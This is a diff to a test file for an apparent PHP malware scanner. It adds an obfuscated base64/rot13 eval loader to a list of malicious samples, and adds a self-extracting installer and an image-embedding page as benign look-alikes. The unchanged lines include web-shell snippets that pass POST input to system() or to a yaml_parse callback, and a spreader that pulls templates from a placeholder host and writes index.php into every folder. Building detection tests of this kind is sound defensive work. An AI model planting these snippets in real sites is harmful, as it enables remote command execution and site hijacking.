@@ -28,6 +28,7 @@ const MALICIOUS: [string, string, string][] = [
   ['a register_globals command form given itself through stripslashes first (S36A-40)', '/var/www/html/q.php', `<form method="post"><input name="command"></form>\n<?php\n$command = stripslashes($command);\nsystem($command);\n`],
   ['yaml_parse with a tag callback of system set by element (S36A-24)', '/var/www/html/r.php', `<?php\n$cb = array();\n$cb['!run'] = 'system';\nyaml_parse($_POST['doc'], 0, $n, $cb);\n`],
   ['a doorway spreader writing index.php into each folder with what its server sends for this host (S36A-71)', '/var/www/html/s.php', `<?php\n$srv = "http://doorway.example.invalid/tpl/";\n$c = file_get_contents($srv . '?host=' . urlencode($_SERVER['HTTP_HOST']));\nforeach (glob($_SERVER['DOCUMENT_ROOT'] . '/*', GLOB_ONLYDIR) as $d) file_put_contents($d . '/index.php', $c);\n`],
+  ['code decoding the base64 kept after its own closing tag, reversed and rot13-ed, then evaluated (held-out set H15)', '/var/www/html/t.php', `<?php\n$p = array(base64_decode("L3gvaQ=="), base64_decode(strrev(str_rot13(explode("?>", file_get_contents(__FILE__))[1]))));\npreg_replace($p[0], serialize(eval($p[1])), 'x');\nexit();\n?>\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 97 + 13) % 256)).toString('base64')}\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -49,6 +50,8 @@ const LOOKALIKES: [string, string, string][] = [
   ['an IRC bot whose chat commands map to methods, one named system, beside a settings file parsed without callbacks (S36A-21)', '/var/www/html/bot.php', `<?php\nclass Bot {\n  private $commands = ['!help' => 'help', '!sys' => 'system'];\n  function __construct($f) { $this->cfg = yaml_parse_file($f); }\n  function system() { return PHP_OS_FAMILY; }\n}\n`],
   ['a status page destructuring the command from its own list of tools (S36A-22)', '/var/www/html/tools.php', `<?php\n$tools = ['uptime' => ['uptime', 'Load'], 'disk' => ['df -h', 'Disk']];\n$sel = $_GET['cmd'] ?? 'uptime';\n[$cmd, $label] = $tools[$sel] ?? $tools['uptime'];\n?>\n<form><select name="cmd"><option>uptime</option></select></form>\n<pre><?php if (isset($cmd)) passthru($cmd); ?></pre>\n`],
   ['a monitor running each check of its own list, destructured in foreach (S36A-23)', '/var/www/html/monitor.php', `<?php\n$checks = ['load' => ['uptime', 'Load']];\n?>\n<form method="post"><input name="cmd"></form>\n<?php\nforeach ($checks as $key => [$command, $title]) { if (isset($command)) system($command); }\n`],
+  ['a self-extracting installer reading the archive after __halt_compiler and writing its files', '/var/www/html/installer.php', `<?php\n$data = file_get_contents(__FILE__, false, null, __COMPILER_HALT_OFFSET__);\nfile_put_contents('/tmp/site.zip', base64_decode($data));\necho 'unpacked';\n__halt_compiler();\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 89 + 7) % 256)).toString('base64')}`],
+  ['a page showing its own source, with a base64 picture in the HTML after its closing tag', '/var/www/html/demo.php', `<?php\nif (isset($_GET['source'])) { highlight_file(__FILE__); exit; }\n$n = base64_decode('MTIz');\n?>\n<img src="data:image/png;base64,\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 31 + 5) % 256)).toString('base64')}">\n`],
 ];
 
 describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () => {
@@ -58,7 +61,7 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 19));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 20));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -66,5 +69,5 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 18));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 20));
 });
